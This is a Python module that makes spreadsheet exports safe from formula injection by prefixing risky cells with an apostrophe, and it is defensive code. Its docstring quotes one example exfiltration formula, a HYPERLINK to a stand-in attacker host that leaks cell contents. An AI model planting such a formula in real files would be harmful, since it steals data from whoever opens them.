"""The one way to write people's text into a spreadsheet (CSV or XLSX): formula-safe cells.

A question or name that starts with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return)
is run as a formula when staff open the file in Excel or LibreOffice ("CSV injection"):
``=HYPERLINK("http://evil.example/?"&A1, "Click")`` sends the sheet's contents away. Every
export of questions, names, towns or emails must go through :func:`write_csv` or
:func:`write_xlsx`, which prefix such text with an apostrophe, the mark spreadsheets
themselves use for "this is text". Numbers, dates and booleans are written as they are.

There is no export page yet; this module is here so the first one cannot forget.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

# Full-width forms are read as the ASCII ones by some spreadsheet imports.
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")

Cell = str | int | float | bool | datetime | date | None


def safe_cell(value: Cell) -> Cell:
    """``value`` ready for a spreadsheet: text that could start a formula gets a leading ``'``.

    Leading spaces do not help: spreadsheets skip them before looking for ``=``.
    """
    if not isinstance(value, str):
        return value
    stripped = value.lstrip(" ")
    if stripped and stripped[0] in FORMULA_STARTS:
        return "'" + value
    return value


def write_csv(rows: Iterable[Sequence[Cell]]) -> str:
    """CSV text (UTF-8 with a byte-order mark so Excel reads accents) of formula-safe rows."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow(["" if v is None else safe_cell(v) for v in row])
    return out.getvalue()


def write_xlsx(rows: Iterable[Sequence[Cell]], title: str = "Questions") -> bytes:
    """An XLSX workbook of formula-safe rows; text is always stored as text, never a formula."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title[:31]
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            safe = safe_cell(value)
            if isinstance(safe, str):  # control characters cannot be stored in XLSX at all
                safe = ILLEGAL_CHARACTERS_RE.sub("", safe)
            cell = sheet.cell(row=r, column=c, value=safe)
            if isinstance(safe, str):
                cell.data_type = "s"  # openpyxl would otherwise store "=…" as a formula
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
